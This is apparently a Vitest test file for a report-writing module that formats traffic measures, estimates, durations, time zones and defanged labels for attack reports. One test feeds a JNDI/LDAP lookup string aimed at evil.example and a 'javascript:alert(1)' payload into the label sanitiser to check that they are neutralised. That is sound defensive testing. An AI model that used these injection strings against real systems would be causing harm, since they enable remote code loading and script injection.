import { describe, expect, it } from 'vitest';
import { ReportError } from '../../../src/errors.ts';
import type { Measure, Unit } from '../../../src/model/measure.ts';
import { createWriter } from '../../../src/text/text.ts';

const writer = createWriter({ locale: 'en-GB', timeZone: 'Europe/Berlin' });

/** The blanks as ordinary spaces, so that expectations can be read; one test below looks at the blanks themselves. */
const plain = (text: string): string => text.replace(/[\u00A0\u202F]/gu, ' ');
const counted = (value: number, unit: Unit): Measure => ({ value, unit, kind: 'counted', evidence: [] });
const estimated = (value: number, halfWidth: number, unit: Unit, sampleCount = 400): Measure => ({
  value,
  unit,
  kind: 'estimated',
  sampleCount,
  interval: { lower: value - halfWidth, upper: value + halfWidth },
  evidence: [],
});

describe('quantities with SI prefixes', () => {
  it.each([
    [0, 'bits/s', '0 bps'],
    [1_200_000_000, 'bits/s', '1.2 Gbps'],
    [999_949, 'packets/s', '1 Mpps'],
    [999_400, 'packets/s', '999 kpps'],
    [48_213, 'requests/s', '48.2 krps'],
    [48.25, 'requests/s', '48.3 rps'],
    [1_500, 'bytes', '1.5 kB'],
    [2_340_000_000_000, 'bytes', '2.34 TB'],
    [450_000, 'requests', '450 k'],
    [450, 'packets', '450'],
    [845_000, 'ms', '14 min 05 s'],
    [0.9132, 'share', '91.3 %'],
  ] as const)('writes %d %s as %s', (value, unit, expected) => {
    expect(plain(writer.quantity(value, unit))).toBe(expected);
  });

  it('keeps number and unit on one line', () => {
    expect(writer.quantity(1_200_000_000, 'bits/s')).toBe('1.2\u00A0Gbps');
    expect(writer.share(0.5)).toBe('50.0\u202F%');
  });
});

describe('measures', () => {
  it('writes a counted number with all its digits', () => {
    expect(plain(writer.measure(counted(412_301, 'requests')))).toBe('412,301 requests');
    expect(plain(writer.measure(counted(1, 'requests')))).toBe('1 request');
    expect(plain(writer.measure(counted(1, 'queries')))).toBe('1 query');
  });

  it('writes rates and volumes with three digits unless asked for all', () => {
    expect(plain(writer.measure(counted(1_234_567_890, 'bits/s')))).toBe('1.23 Gbps');
    expect(plain(writer.measure(counted(1_200_000_000, 'bits/s')))).toBe('1.20 Gbps');
    expect(plain(writer.measure(counted(1_234_567_890, 'bits/s'), 'exact'))).toBe('1,234,567,890 bps');
  });

  it('shortens counts for tiles', () => {
    expect(plain(writer.measure(counted(412_301, 'requests'), 'compact'))).toBe('412 k requests');
    expect(plain(writer.measure(counted(7, 'events'), 'compact'))).toBe('7 events');
  });

  it('says about when the interval is narrower than 5 % to either side', () => {
    expect(plain(writer.measure(estimated(412_301, 12_000, 'requests')))).toBe('about 412,000 requests');
    expect(plain(writer.measure(estimated(412_301, 12_000, 'requests'), 'compact'))).toBe('about 412 k requests');
  });

  it('adds the interval from 5 to 20 %', () => {
    expect(plain(writer.measure(estimated(412_301, 31_000, 'requests')))).toBe(
      'about 410,000 requests (between 380,000 and 450,000)',
    );
    expect(plain(writer.measure(estimated(412_301e6, 31_000e6, 'bits/s')))).toBe(
      'about 410 Gbps (between 380 and 450 Gbps)',
    );
  });

  it('tells only the interval beyond 20 %', () => {
    expect(plain(writer.measure(estimated(412_301, 100_000, 'requests')))).toBe('between 310,000 and 520,000 requests');
    expect(plain(writer.measure(estimated(1_000_000_000, 700_000_000, 'bits/s')))).toBe(
      'between 300 Mbps and 1.7 Gbps',
    );
    expect(plain(writer.measure({ ...estimated(0, 0, 'requests'), interval: { lower: 0, upper: 3_012 } }))).toBe(
      'between 0 and 3,100 requests',
    );
  });

  it('says nothing below ten sampled rows, whatever the form', () => {
    for (const form of [undefined, 'compact', 'exact', 'range'] as const)
      expect(writer.measure(estimated(900, 400, 'packets', 9), form)).toBe('too few sampled rows to say');
  });

  it('treats an estimate whose interval is a point as counted', () => {
    expect(plain(writer.measure(estimated(412_301, 0, 'requests')))).toBe('412,301 requests');
  });

  it('hedges an estimate that came without an interval', () => {
    const { interval: _interval, ...measure } = estimated(412_301, 1, 'requests');
    expect(plain(writer.measure(measure))).toBe('about 412,000 requests');
    expect(plain(writer.measure(measure, 'exact'))).toBe('about 412,301 requests');
  });

  it('judges the interval of an efficacy by what leaked, not by what was stopped', () => {
    expect(plain(writer.measure(estimated(0.999, 0.0005, 'share')))).toBe('between 99.85 % and 99.95 %');
    expect(plain(writer.measure(estimated(0.913, 0.008, 'share')))).toBe('about 91.3 % (between 90.5 % and 92.1 %)');
    expect(plain(writer.measure(estimated(0.5, 0.01, 'share')))).toBe('about 50.0 %');
  });

  it('leaves the unit to the head of a column and marks estimates with a sign', () => {
    const cell = (measure: Measure): string => plain(writer.measure(measure, 'cell'));
    expect(cell(counted(412_301, 'requests'))).toBe('412 k');
    expect(cell(estimated(412_301, 4_000, 'packets'))).toBe('~ 412 k');
    expect(cell(estimated(400_000, 200_000, 'packets'))).toBe('200 k–600 k');
    expect(cell(estimated(40, 20, 'requests', 4))).toBe('too few rows');
    expect(cell(estimated(0, 0, 'requests', 0))).toBe('none seen');
  });

  it('says hardly any and nearly all by a bound, with a sign in a column and with words in a sentence', () => {
    const cell = (measure: Measure): string => plain(writer.measure(measure, 'cell'));
    const hardly = { ...estimated(0.0006, 0.0003, 'share') };
    expect(plain(writer.measure(hardly))).toBe('less than 0.1 %');
    expect(cell(hardly)).toBe('< 0.1 %');
    const nearly = { ...estimated(0.99999, 0.00001, 'share') };
    expect(plain(writer.measure(nearly))).toBe('more than 99.99 %');
    expect(cell(estimated(0.9995, 0.0004, 'share'))).toBe('> 99.9 %');
    expect(plain(writer.measure(counted(0.0004, 'share')))).toBe('less than 0.1 %');
    expect(cell(counted(0.0004, 'share'))).toBe('< 0.1 %');
    expect(cell(estimated(0.02, 0.01, 'share'))).toBe('1.0–3.0 %');
  });

  it('names what is counted once, also where the bounds have different prefixes', () => {
    const bounds = { ...estimated(1_200_000, 500_000, 'packets'), interval: { lower: 740_000, upper: 1_700_000 } };
    expect(plain(writer.measure(bounds, 'compact'))).toBe('between 740 k and 1.7 M packets');
  });

  it('refuses what is not a number', () => {
    for (const value of [Number.NaN, Number.POSITIVE_INFINITY])
      expect(() => writer.measure(counted(value, 'requests'))).toThrow(ReportError);
  });
});

describe('shares', () => {
  it.each([
    [0, '0 %'],
    [1, '100 %'],
    [0.9996, '99.96 %'],
    [0.99995, '> 99.99 %'],
    [0.9989, '99.9 %'],
    [0.001, '0.1 %'],
    [0.0009, '< 0.1 %'],
    [1e-12, '< 0.1 %'],
    [1.000001, '> 100 %'],
    [2.5, '250.0 %'],
    [-0.12, '−12.0 %'],
    [-0.0001, '> −0.1 %'],
  ])('writes %d as %s', (value, expected) => {
    expect(plain(writer.share(value))).toBe(expected);
  });

  it('writes exact shares with up to four decimals but still never a false 0 or 100', () => {
    expect(plain(writer.measure(counted(0.91324, 'share'), 'exact'))).toBe('91.324 %');
    expect(plain(writer.measure(counted(1e-9, 'share'), 'exact'))).toBe('< 0.1 %');
    expect(plain(writer.measure(counted(1 - 1e-9, 'share'), 'exact'))).toBe('> 99.99 %');
  });
});

describe('lengths of time', () => {
  it.each([
    [0, '0 s'],
    [0.4, '0.4 ms'],
    [350, '350 ms'],
    [999.7, '1.0 s'],
    [12_000, '12 s'],
    [12_400, '12.4 s'],
    [59_970, '1 min 00 s'],
    [60_000, '1 min'],
    [845_000, '14 min 05 s'],
    [3_599_600, '1 h 00 min'],
    [3_720_000, '1 h 02 min'],
    [604_800_000, '7 d'],
    [100_000_000, '1 d 04 h'],
    [-5_000, '−5 s'],
  ])('writes %d ms as %s', (ms, expected) => {
    expect(plain(writer.duration(ms))).toBe(expected);
  });
});

describe('instants', () => {
  const attack = Date.UTC(2026, 10, 17, 13, 3, 20);

  it('writes them in the zone of the document, not of the machine', () => {
    expect(writer.time(attack, 'instant')).toBe('17 Nov 2026, 14:03:20');
    expect(writer.time(attack, 'clock')).toBe('14:03:20');
    expect(writer.time(Date.UTC(2026, 10, 17, 23, 30), 'day')).toBe('18 Nov 2026');
    expect(writer.offset(attack)).toBe('UTC+01:00');
    expect(writer.tick(attack, 'minute')).toBe('14:03');
    expect(writer.tick(attack, 'day')).toBe('17 Nov');
  });

  it('knows that the clocks went back on 25 October 2026', () => {
    const before = Date.UTC(2026, 9, 25, 0, 30);
    expect([before, before + 3_600_000].map((at) => `${writer.time(at, 'clock')} ${writer.offset(at)}`)).toEqual([
      '02:30:00 UTC+02:00',
      '02:30:00 UTC+01:00',
    ]);
  });

  it('writes negative and half-hour offsets', () => {
    expect(createWriter({ locale: 'en-GB', timeZone: 'America/St_Johns' }).offset(attack)).toBe('UTC−03:30');
    expect(createWriter({ locale: 'en-GB', timeZone: 'UTC' }).offset(attack)).toBe('UTC+00:00');
  });

  it('writes September with three letters in every English', () => {
    const at = Date.UTC(2026, 8, 1, 12);
    expect(
      ['en-GB', 'en-US', 'en-AU'].map((locale) => createWriter({ locale, timeZone: 'UTC' }).time(at, 'day')),
    ).toEqual(['1 Sep 2026', '1 Sep 2026', '1 Sep 2026']);
  });
});

describe('other languages', () => {
  it('have their words, separators and Latin digits; those that no report is written in have English words', () => {
    const german = createWriter({ locale: 'de-DE', timeZone: 'Europe/Berlin' });
    expect(plain(german.measure(counted(412_301, 'requests')))).toBe('412.301 Anfragen');
    expect(plain(german.share(0.9132))).toBe('91,3 %');
    const dutch = createWriter({ locale: 'nl-NL', timeZone: 'Europe/Amsterdam' });
    expect(plain(dutch.measure(counted(412_301, 'requests')))).toBe('412.301 requests');
    expect(createWriter({ locale: 'ar-EG', timeZone: 'Africa/Cairo' }).integer(2026)).toMatch(/^2.?026$/u);
  });

  it('refuses a locale or zone that does not exist', () => {
    expect(() => createWriter({ locale: 'not a locale', timeZone: 'UTC' })).toThrow(/BCP 47/u);
    expect(() => createWriter({ locale: 'en-GB', timeZone: 'Europe/Atlantis' })).toThrow(/Europe\/Atlantis/u);
  });
});

describe('phrases', () => {
  it('joins the pieces without adding a space', () => {
    expect(
      plain(
        writer.phrase([
          'The attack on ',
          { kind: 'label', value: 'shop.example', role: 'name' },
          ' had ',
          { kind: 'count', value: 2, one: 'wave', many: 'waves' },
          ' (',
          { kind: 'count', value: 1, one: 'attack id', many: 'attack ids' },
          '), peaked at ',
          { kind: 'measure', measure: counted(48_213, 'requests/s') },
          ' at ',
          { kind: 'time', at: Date.UTC(2026, 10, 17, 13, 3, 20), form: 'clock' },
          ' (',
          { kind: 'time', at: Date.UTC(2026, 10, 17, 13, 3, 20), form: 'clock', utc: true },
          ' UTC), ',
          { kind: 'duration', ms: 14_000, signed: true },
          ' after it began. Latency: ',
          { kind: 'missing', reason: 'not recorded in the supplied logs' },
          '.',
        ]),
      ),
    ).toBe(
      'The attack on shop.example had 2 waves (1 attack id), peaked at 48.2 krps at 14:03:20 (13:03:20 UTC), +14 s after ' +
        'it began. Latency: not recorded in the supplied logs.',
    );
  });

  it('takes a single piece, and an empty phrase is empty', () => {
    expect(writer.phrase('over')).toBe('over');
    expect(writer.phrase([])).toBe('');
    expect(writer.phrase({ kind: 'zone', at: Date.UTC(2026, 10, 17) })).toBe('Europe/Berlin (UTC+01:00)');
  });

  it('defangs indicators as a whole, and of names and code what a program would follow', () => {
    const role = (kind: 'name' | 'indicator' | 'code'): string =>
      writer.phrase({ kind: 'label', value: 'http://203.0.113.7/a', role: kind });
    expect([role('indicator'), role('name'), role('code')]).toEqual([
      'hxxp://203[.]0[.]113[.]7/a',
      'hxxp://203[.]0[.]113[.]7/a',
      'hxxp://203[.]0[.]113[.]7/a',
    ]);
    expect(writer.label('shop.acme.example', 'name')).toBe('shop.acme.example');
    expect(writer.label('/index.php?v=1.2', 'code')).toBe('/index.php?v=1.2');
  });

  it('leaves nothing in a name that a ticket system, a log or a mail gateway would run', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's language
    const rule = '${jndi:ldap://evil.example/a} $%7Bjndi:dns://evil.example} javascript:alert(1)';
    for (const role of ['name', 'code', 'indicator'] as const) {
      const shown = writer.label(rule, role);
      expect(shown).not.toMatch(/\$\{|jndi:|ldap:|javascript:|evil\.example/);
      expect(writer.label(shown, role)).toBe(shown);
    }
    expect(writer.label('Data: file: 5 lines', 'name')).toBe('Data: file: 5 lines');
  });

  it('leaves the secrets of users out of every label', () => {
    expect(writer.label('/pay?token=s3cr3t&page=2', 'code')).toBe('/pay?token=[redacted]&page=2');
    expect(writer.label('x-api-key: 1', 'name')).toBe('x-api-key: 1');
  });

  it('shows a look-alike host for what it is', () => {
    expect(writer.label('раypal.example', 'name')).toBe('раypal.example (xn--ypal-43d9g.example)');
    expect(writer.label('bücher.example', 'indicator')).toBe('bücher[.]example (xn--bcher-kva[.]example)');
    expect(writer.label('Größe überschritten.', 'name')).toBe('Größe überschritten.');
  });
});

describe('axes', () => {
  it('states the unit once and the prefix where it belongs', () => {
    const gbps = writer.axis(60e9, 20e9, 'bits/s');
    expect([gbps.unit, ...[0, 20e9, 60e9].map(gbps.label)]).toEqual(['Gbps', '0', '20', '60']);
    const requests = writer.axis(150_000, 50_000, 'requests');
    expect([requests.unit, ...[0, 50_000].map((value) => plain(requests.label(value)))]).toEqual([
      'requests',
      '0',
      '50 k',
    ]);
    const share = writer.axis(0.02, 0.005, 'share');
    expect([share.unit, plain(share.label(0.015))]).toEqual(['', '1.5 %']);
    const latency = writer.axis(12_000, 2_500, 'ms');
    expect([latency.unit, latency.label(2_500)]).toEqual(['s', '2.5']);
  });
});
